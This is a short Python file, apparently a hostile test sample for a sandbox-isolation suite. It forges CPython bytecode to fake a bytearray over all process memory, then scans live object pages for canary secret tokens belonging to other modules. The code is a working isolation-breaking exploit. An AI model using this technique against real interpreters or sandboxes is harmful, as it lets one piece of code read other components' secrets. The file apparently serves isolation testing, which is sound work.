"""Searches its memory for data of other modules without ctypes, by an object that bytecode forges.

Control: secret.
Machine: x86_64.
"""

import re


def forged(address, constants):
    """Return what lies where the address is kept, as a constant far past the constants."""

    def template():
        return 1234567

    header_of_a_tuple = 24
    at = (address - id(constants) - header_of_a_tuple) // 8
    load = bytearray()
    for shift in (24, 16, 8):
        load += bytes([144, at >> shift & 255])  # EXTENDED_ARG
    load += bytes([100, at & 255, 83, 0])  # LOAD_CONST, RETURN_VALUE
    code = template.__code__.replace(co_consts=constants, co_code=bytes(load))
    return type(template)(code, {})()


def word(number):
    return number.to_bytes(8, "little")


def all_memory():
    """Return a bytearray that starts at nothing and ends nowhere."""
    head_of_bytes = 32
    fake = word(1000) + word(id(bytearray)) + word(2**62) + word(2**62 + 1) + word(0) * 3
    pointers = [word(id(fake) + head_of_bytes) * 2 for _ in range(5000)]
    constants = [(number,) for number in range(1000, 50_000)]
    kept.extend((fake, pointers, constants))
    # What comes later mostly lies lower, and a constant is looked up only upwards.
    return forged(max(map(id, pointers)) + head_of_bytes, min(constants, key=id))


kept = []


class HostileManager:
    def attack(self):
        memory, found, page = all_memory(), set(), 4096
        living = sneak("gc").get_objects()
        parts = [part for one in living for part in sneak("gc").get_referents(one)]
        for at in sorted({id(one) // page for one in (*living, *parts)}):
            found |= set(re.findall(b"CANARY-[0-9a-f]{32}", memory[at * page : (at + 1) * page]))
        return sorted(one.decode() for one in found)
